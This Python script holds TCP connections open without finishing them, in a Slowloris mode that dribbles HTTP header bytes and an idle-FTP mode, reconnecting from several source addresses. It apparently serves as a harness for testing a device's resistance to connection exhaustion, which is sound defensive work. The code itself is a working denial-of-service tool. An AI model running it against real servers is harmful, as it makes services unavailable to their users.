#!/usr/bin/env python3
"""Clients that hold a TCP server's connections and never finish, one per source address.

  hold.py slowloris|ftp-idle HOST PORT SECONDS SOURCE...

slowloris: sends a request line and a field, then one more header byte a second, never
the blank line that ends the head. ftp-idle: reads the greeting and never logs in.
A client whose connection ends connects again 0.2 s later, as such attackers do, until
SECONDS have passed. Prints "ready" once every client has made its first attempt, and at
the end (or on SIGTERM) one JSON line with the counts."""

import json
import os
import signal
import socket
import sys
import threading
import time

mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
sources = sys.argv[5:]
deadline = time.monotonic() + seconds
counts = {"connected": 0, "ended": 0, "failed": 0}
lock = threading.Lock()
first = threading.Barrier(len(sources) + 1)


def count(key: str):
    with lock:
        counts[key] += 1


def hold(s: socket.socket):
    """Keeps the connection busy until the server ends it or time is up."""
    if mode == "slowloris":
        s.sendall(b"GET / HTTP/1.1\r\nHost: device\r\n")
        dribble = b"X-Slow: " + b"a" * 1000
        for b in dribble:
            if time.monotonic() > deadline:
                return
            s.sendall(bytes([b]))
            time.sleep(1)
    else:
        while time.monotonic() < deadline and s.recv(4096):
            pass


def client(source: str):
    started = False
    while time.monotonic() < deadline:
        s = socket.socket()
        s.settimeout(2)
        try:
            s.bind((source, 0))
            s.connect((host, port))
        except OSError:
            count("failed")
        else:
            count("connected")
            if not started:
                started = True
                first.wait()
            s.settimeout(max(0.1, deadline - time.monotonic()))
            try:
                hold(s)
            except OSError:
                pass
            count("ended")
        s.close()
        if not started:
            started = True
            first.wait()
        time.sleep(0.2)


def stop(*_):
    print(json.dumps(counts), flush=True)
    os._exit(0)


signal.signal(signal.SIGTERM, stop)
for source in sources:
    threading.Thread(target=client, args=(source,), daemon=True).start()
first.wait()
print("ready", flush=True)
while time.monotonic() < deadline:
    time.sleep(0.2)
stop()
